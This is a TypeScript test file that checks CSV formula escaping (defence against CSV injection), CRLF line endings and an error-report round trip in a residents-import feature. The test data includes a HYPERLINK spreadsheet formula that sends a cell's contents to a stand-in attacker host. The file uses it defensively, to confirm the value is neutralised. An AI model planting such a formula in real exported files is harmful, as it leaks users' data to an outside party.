/**
 * The CSV files latchkit writes (csv-stringify): formula escaping (OWASP "CSV Injection") and
 * CRLF on every line, and the error report round trip: import a file whose names look like
 * formulas, some rows fail, download the error report (escaped), correct it, upload it again,
 * and the residents get exactly the values of the original file.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import * as g from '../../../gateway/src/index.js';
import { readImportCsv, writeCsv } from '../../../gateway/src/flows/csv-file.js';
import { apiFixturesClosedAfterEach } from '../api-helpers.js';
import { f, HEADER } from './flow-helpers.js';

const api = apiFixturesClosedAfterEach();

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/**
 * Resident values, as the original file means them. The last one really starts with `'=`; in a
 * file that is written `''=…` (one `'` is the escape), as a spreadsheet export with formula
 * escaping writes it.
 */
const VALUES = [
  ['Ann', 'Doe', 'ann@example.com', '', '4B', 'Unit 4B'],
  [HYPERLINK, '+Smith', 'bob@example', '+1 555 0100', '4B', 'Unit 4B'],
  ['@Carol', '-Lee', 'carol@example', '', '4B', 'Unit 4B'],
  ["O'Neil", '\uFF1DWide', 'dee@example', '', '4B', 'Unit 4B'],
  ["'=Eve", 'Doe', 'eve@example', '', '4B', 'Unit 4B'],
] as const;

/** The original file: the values as a user's CSV holds them (quoted where needed, LF line ends). */
function originalFile(): string {
  const cell = (v: string) => (v.startsWith("'") ? `'${v}` : /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return [HEADER, ...VALUES].map((r) => r.map(cell).join(',')).join('\n') + '\n';
}

/** Every record ends in CRLF and no bare CR or LF is anywhere (none of these values spans lines). */
function expectCrlfThroughout(text: string): void {
  expect(text.endsWith('\r\n')).toBe(true);
  const lines = text.split('\r\n');
  expect(lines.pop()).toBe('');
  for (const line of lines) expect(line).not.toMatch(/[\r\n]/);
}

describe('CSV writing: formula escaping and CRLF', () => {
  it('escapes = + - @ TAB CR (and their full-width forms) with one leading quote; reading takes it off', () => {
    const values = [HYPERLINK, '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\uFF1Dx', '\uFF0Bx', '\uFF0Dx', '\uFF20x', "'=x", "''+x", "O'Neil", "'", 'plain', '', 'a,b', 'say "hi"', 'two\nlines'];
    const text = writeCsv(['First Name', 'Last Name', 'Email'], values.map((v) => [v, 'Doe', 'x@example.com']));
    const written = (parse(text, { relax_column_count: true }) as string[][]).slice(1).map((r) => r[0]);
    expect(written).toEqual([
      `'${HYPERLINK}`,
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "'\uFF1Dx",
      "'\uFF0Bx",
      "'\uFF0Dx",
      "'\uFF20x",
      "''=x",
      "'''+x",
      "O'Neil",
      "'",
      'plain',
      '',
      'a,b',
      'say "hi"',
      'two\nlines',
    ]);
    // Every record ends in CRLF, the last one too; the LF inside "two\nlines" is quoted data.
    expect(text.endsWith('"two\nlines",Doe,x@example.com\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(values.length + 2);
    // Reading gives back every value exactly; a TAB or CR behind the escape quote survives the trim.
    expect(readImportCsv(text).map((r) => r.cells.firstName)).toEqual(values);
  });

  it('the template is one CRLF-terminated header row', () => {
    expect(f.csvTemplate()).toBe('First Name,Last Name,Email,Phone,Unit,Keys,Start,Expiration\r\n');
  });
});

describe('error report round trip with formula-like names', () => {
  it('import → some rows error → download the report (escaped, CRLF) → correct it → re-upload: the original values', async () => {
    const a = await api();
    const up = await a.call('km', 'POST', `${a.base}/imports`, { csv: originalFile(), fileName: 'residents.csv' });
    expect(up.status).toBe(201);
    const id = up.body.import.id as number;
    // The import reads the names as data, exactly as the original file means them.
    expect(f.importRows(a.db, id).map((r) => [r.cells.firstName, r.cells.lastName, r.cells.phone ?? ''])).toEqual(VALUES.map((v) => [v[0], v[1], v[3]]));
    expect(f.importRows(a.db, id).map((r) => [r.line, r.status, r.errorCode])).toEqual([
      [2, 'ready', null],
      [3, 'error', 'INVALID_EMAIL'],
      [4, 'error', 'INVALID_EMAIL'],
      [5, 'error', 'INVALID_EMAIL'],
      [6, 'error', 'INVALID_EMAIL'],
    ]);
    expect((await a.call('km', 'POST', `${a.base}/imports/${id}/apply`, {})).body.import.counts).toMatchObject({ imported: 1, error: 4 });

    // Download the error report.
    const res = await a.app.inject({ url: `${a.base}/imports/${id}/error-report`, headers: { authorization: `Bearer ${a.tokens.km}` } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const report = res.body;
    expectCrlfThroughout(report);
    const cells = parse(report) as string[][];
    expect(cells[0]).toEqual([...HEADER, 'Error']);
    // No cell a spreadsheet would run: each formula-like value carries one leading quote.
    expect(cells.slice(1).map((r) => r.slice(0, 6))).toEqual([
      [`'${HYPERLINK}`, "'+Smith", 'bob@example', "'+1 555 0100", '4B', 'Unit 4B'],
      ["'@Carol", "'-Lee", 'carol@example', '', '4B', 'Unit 4B'],
      ["O'Neil", "'\uFF1DWide", 'dee@example', '', '4B', 'Unit 4B'],
      ["''=Eve", 'Doe', 'eve@example', '', '4B', 'Unit 4B'],
    ]);
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(cells[1]![6]).toBe('line 3: INVALID_EMAIL: Email "bob@example" is not an email address');

    // The manager corrects the emails in a text editor and uploads the report as is.
    const fixed = report.replace(/,(bob|carol|dee|eve)@example,/g, ',$1@example.com,');
    expect(fixed).not.toBe(report);
    expectCrlfThroughout(fixed);
    const again = await a.call('km', 'POST', `${a.base}/imports`, { csv: fixed, fileName: 'errors-fixed.csv' });
    expect(again.status).toBe(201);
    const againId = again.body.import.id as number;
    expect(f.importRows(a.db, againId).map((r) => r.status)).toEqual(['ready', 'ready', 'ready', 'ready']);
    const want = VALUES.slice(1).map((v) => [v[0], v[1], v[2].replace('@example', '@example.com'), v[3]]);
    expect(f.importRows(a.db, againId).map((r) => [r.cells.firstName, r.cells.lastName, r.cells.email, r.cells.phone ?? ''])).toEqual(want);
    expect((await a.call('km', 'POST', `${a.base}/imports/${againId}/apply`, {})).body.import.counts).toMatchObject({ imported: 4 });
    // The residents hold the original values, not the escaped ones.
    for (const [firstName, lastName, email, phone] of want) {
      const p = g.findPersonByEmail(a.db, a.prop.id, email!)!;
      expect({ firstName: p.firstName, lastName: p.lastName, phone: p.phone ?? '' }).toEqual({ firstName, lastName, phone });
    }
  });
});
